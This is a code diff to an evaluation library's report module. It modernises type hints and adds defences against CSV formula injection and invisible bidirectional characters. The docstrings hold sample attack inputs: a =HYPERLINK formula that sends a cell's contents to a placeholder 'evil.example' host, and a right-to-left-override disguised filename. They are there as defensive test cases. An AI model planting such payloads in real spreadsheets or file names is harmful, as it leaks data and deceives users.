@@ -25,8 +25,9 @@ import json
 import math
 import os
 import re
+from collections.abc import Sequence
 from dataclasses import dataclass, field
-from typing import Any, Optional, Sequence, TextIO, Union
+from typing import Any, TextIO, Union
 
 from mmjudge.inputs import finite_mean
 from mmjudge.metrics.base import ItemResult, MetricSpec
@@ -83,10 +84,10 @@ class Report:
         cls,
         spec: MetricSpec,
         result: dict,
-        ids: Optional[Sequence[Any]] = None,
-        task: Optional[str] = None,
-        extra: Optional[Sequence[dict]] = None,
-    ) -> "Report":
+        ids: Sequence[Any] | None = None,
+        task: str | None = None,
+        extra: Sequence[dict] | None = None,
+    ) -> Report:
         """Rows from one ``compute`` result: ``ids`` (default ``0..n-1``), the same ``task`` for all,
         ``extra`` per-row fields put after ``id``/``task`` (e.g. the text)."""
         report = cls(spec)
@@ -98,12 +99,12 @@ class Report:
         cls,
         metric: Any,
         items: Sequence[dict],
-        default_task: Optional[str] = None,
+        default_task: str | None = None,
         progress: bool = False,
         keep: Sequence[str] = (),
         on_error: str = "raise",
         **options: Any,
-    ) -> "Report":
+    ) -> Report:
         """Score item dicts (``id``, ``text``, ``image``, ``question``, ``box``, ``references``, ``task``)
         with ``metric`` (:meth:`~mmjudge.metrics.base.Metric.stream`: each item with its own task, else
         ``default_task``), keeping the item fields named in ``keep``; ``options`` are compute options
@@ -163,13 +164,13 @@ class Report:
         """Rows as JSON-safe dicts (NaN → None)."""
         return [{k: json_safe(v) for k, v in row.items()} for row in self.rows]
 
-    def to_jsonl(self, path: Optional[PathOrFile] = None) -> str:
+    def to_jsonl(self, path: PathOrFile | None = None) -> str:
         """One JSON object per row; written to ``path`` when given. Returns the text."""
         text = "".join(json.dumps(r, ensure_ascii=False) + "\n" for r in self.to_records())
         _write(path, text)
         return text
 
-    def to_csv(self, path: Optional[PathOrFile] = None) -> str:
+    def to_csv(self, path: PathOrFile | None = None) -> str:
         """CSV with a header; lists are joined with ``;``; NaN is an empty cell."""
         records = self.to_records()
         columns = list(dict.fromkeys(k for r in records for k in r))
@@ -187,11 +188,12 @@ class Report:
 
         return pd.DataFrame(self.rows)
 
+
 def _length(result: dict, spec: MetricSpec) -> int:
     return len(result[spec.primary])
 
 
-def result_row(spec: MetricSpec, result: ItemResult, signature: str, extra: Optional[dict] = None) -> dict:
+def result_row(spec: MetricSpec, result: ItemResult, signature: str, extra: dict | None = None) -> dict:
     """One report row for one streamed :class:`~mmjudge.metrics.base.ItemResult`: ``id``, ``task``, the
     ``extra`` fields, ``primary``, the outputs (declared order), ``signature`` and, for an item that could
     not be scored, ``error``."""
@@ -206,7 +208,7 @@ def result_row(spec: MetricSpec, result: ItemResult, signature: str, extra: Opti
     return row
 
 
-def _write(path: Optional[PathOrFile], text: str) -> None:
+def _write(path: PathOrFile | None, text: str) -> None:
     if path is None:
         return
     if hasattr(path, "write"):
@@ -252,3 +254,46 @@ def markdown_text(value: object) -> str:
         else:
             out.append(ch)
     return _AUTOLINK.sub(lambda m: "\\" + m.group(0) if m.group(0) == "://" else m.group(0)[:-1] + "\\.", "".join(out))
+
+
+# Cells a spreadsheet would read as a formula (OWASP, "CSV Injection"): text starting with one of these.
+_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def spreadsheet_safe(value: Any) -> Any:
+    """``value`` as a CSV cell no spreadsheet runs: text that starts like a formula (``= + - @``, tab,
+    carriage return) gets a leading single quote, as OWASP's CSV-injection guidance describes; numbers
+    and every other text pass unchanged. Every CSV mmjudge writes goes through it; JSON and Parquet keep
+    the text as given.
+
+    >>> print(spreadsheet_safe('=HYPERLINK("http://evil.example/?x="&A2,"click")'))
+    '=HYPERLINK("http://evil.example/?x="&A2,"click")
+    >>> spreadsheet_safe("-1.5"), spreadsheet_safe(-1.5), spreadsheet_safe("a dog")
+    ("'-1.5", -1.5, 'a dog')
+    """
+    if isinstance(value, str) and value.startswith(_FORMULA_STARTS):
+        return "'" + value
+    return value
+
+
+# Characters that change how a text is shown without showing themselves: bidirectional overrides,
+# embeddings and isolates (U+202A-202E, U+2066-2069), direction marks, and zero-width characters.
+_INVISIBLE = re.compile("[\u061c\u200b-\u200f\u202a-\u202e\u2060-\u2064\u2066-\u2069\ufeff\u180e]")
+
+
+def invisible_characters(text: str) -> list[str]:
+    """The bidirectional controls and zero-width characters in ``text``, as ``U+XXXX`` names (empty: none).
+
+    >>> invisible_characters("\u202egnp.exe\u202c"), invisible_characters("a dog")
+    (['U+202E', 'U+202C'], [])
+    """
+    return [f"U+{ord(ch):04X}" for ch in _INVISIBLE.findall(text)]
+
+
+def strip_invisible(text: str) -> str:
+    """``text`` without bidirectional controls and zero-width characters, so it shows as what it is.
+
+    >>> strip_invisible("\u202egnp.exe\u202c")
+    'gnp.exe'
+    """
+    return _INVISIBLE.sub("", text)
